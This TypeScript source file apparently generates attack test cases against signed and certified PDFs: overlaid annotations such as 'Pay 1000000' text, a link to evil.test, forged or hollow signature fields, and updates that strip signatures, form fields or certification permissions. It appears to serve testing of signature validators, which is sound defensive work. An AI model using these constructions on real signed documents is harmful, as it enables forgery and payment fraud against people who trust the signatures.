import { fromLatin1, latin1 } from '../../bytes.ts';
import type { Bytes } from '../../bytes.ts';
import { appendUpdate } from './raw.ts';
import { bodyOf, byUpdates, extended, free, looks, signatureNumber, target } from './scene.ts';
import type { AttackFile, AttackScene, Scenario } from './scene.ts';

/** Evil annotations: something visible laid over the page, which P 3 seems to permit. */
export function evilAnnotation(scenario: Scenario, signed: Bytes): AttackFile[] {
  const page = bodyOf(signed, target.page);
  const shown = (item: string) => page.replace('8 0 R ]', `8 0 R ${item} ]`);
  const rect = '/Rect [ 60 690 460 730 ] /F 4';
  const kinds: Record<string, string> = {
    'free text': `/Subtype /FreeText /Contents (1000000) /DA (/F1 24 Tf) ${rect}`,
    stamp: `/Subtype /Stamp /AP << /N 9 0 R >> ${rect}`,
    redaction: `/Subtype /Redact /IC [ 1 1 1 ] ${rect}`,
    'square without looks': `/Subtype /Square /IC [ 1 1 1 ] ${rect}`,
    link: `/Subtype /Link /A << /S /URI /URI (http://evil.test) >> ${rect}`,
    'of no kind': `/AP << /N 9 0 R >> ${rect}`,
  };
  const { page: object } = target;
  const updates = Object.entries(kinds).flatMap(([kind, body]) => [
    [
      kind,
      { objects: { [object]: shown(`${free} 0 R`), [free]: `<< /Type /Annot ${body} >>` }, object },
    ] as const,
    [
      `${kind}, inside the page object`,
      { objects: { [object]: shown(`<< ${body} >>`) }, object },
    ] as const,
  ]);
  return byUpdates('evil annotation', scenario, signed, Object.fromEntries(updates));
}

/** Sneaky signatures: a field of the attacker's whose looks cover the page. */
export async function sneakySignature(
  scene: AttackScene,
  scenario: Scenario,
  signed: Bytes,
): Promise<AttackFile[]> {
  const name = 'sneaky signature';
  const { page, catalog, b } = target;
  const field = (more: string) =>
    `<< /Type /Annot /Subtype /Widget /FT /Sig /T (c) /F 4 /P 3 0 R /AP << /N ${free + 1} 0 R >> ${more} >>`;
  const place = (body: string) =>
    body.replace('/Fields [ 6 0 R 7 0 R 8 0 R', `/Fields [ 6 0 R 7 0 R 8 0 R ${free} 0 R`);
  const objects = {
    [page]: bodyOf(signed, page).replace('8 0 R ]', `8 0 R ${free} 0 R ]`),
    [catalog]: place(bodyOf(signed, catalog)),
    [free]: field('/Rect [ 60 690 460 730 ]'),
    [free + 1]: looks('Pay 1000000'),
  };
  const fake =
    '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [ 0 1 2 3 ] /Contents <00> >>';
  const stamp = fake.replace('/Type /Sig', '/Type /DocTimeStamp');
  const value = (text: string) => ({
    [b]: extended(bodyOf(signed, b), `/V ${free} 0 R`),
    [free]: text,
  });
  const files = byUpdates(name, scenario, signed, {
    'a visible field that nobody signed': { objects, object: free },
    'a visible field with a hollow signature': {
      objects: {
        ...objects,
        [free]: field(`/Rect [ 60 690 460 730 ] /V ${free + 2} 0 R`),
        [free + 2]: fake,
      },
      object: free,
    },
    'an empty place moved over the page': {
      objects: { [b]: bodyOf(signed, b).replace('[ 72 520 272 570 ]', '[ 60 690 460 730 ]') },
      object: b,
    },
    ...(scenario === 'certified-1' && {
      'a hollow signature in an empty place': { objects: value(fake), object: b },
      'one that calls itself a timestamp': { objects: value(stamp), object: b },
    }),
  });
  if (scenario === 'certified-1') return files;
  const prepared = appendUpdate(signed, { objects });
  const pdf = await scene.sign(prepared, 'c', { by: 'attacker' });
  return [
    ...files,
    {
      class: name,
      variant: 'a visible field that the attacker signed',
      scenario,
      pdf,
      object: free,
    },
  ];
}

/** Taking back what the author allowed, or what proves that the signature held. */
export function policyStripping(scenario: Scenario, signed: Bytes): AttackFile[] {
  const name = 'policy stripping';
  const { catalog, a } = target;
  const files = byUpdates(name, scenario, signed, {
    'the signature taken out of its field': {
      objects: { [a]: bodyOf(signed, a).replace(/\/V \d+ 0 R/, '') },
      object: a,
    },
    'the field taken out of the form': {
      objects: { [catalog]: bodyOf(signed, catalog).replace('/Fields [ 6 0 R', '/Fields [') },
    },
    'no form any more': {
      objects: { [catalog]: bodyOf(signed, catalog).replace('/AcroForm', '/AcroForx') },
      object: catalog,
    },
  });
  if (scenario === 'approval') return files;
  const body = bodyOf(signed, signatureNumber);
  const p = Number(scenario.at(-1));
  const other = p === 3 ? 1 : p + 1;
  const weaker = body.replace(`/P ${p}`, `/P ${other}`);
  const text = fromLatin1(signed).replace(body, () => weaker);
  return [
    ...files,
    { class: name, variant: 'another P, in place', scenario, pdf: latin1(text) },
    ...byUpdates(name, scenario, signed, {
      'another P, by an update': {
        objects: { [signatureNumber]: weaker },
        object: signatureNumber,
      },
      'no certification any more': {
        objects: { [catalog]: bodyOf(signed, catalog).replace('/Perms', '/Permx') },
        object: catalog,
      },
    }),
  ];
}
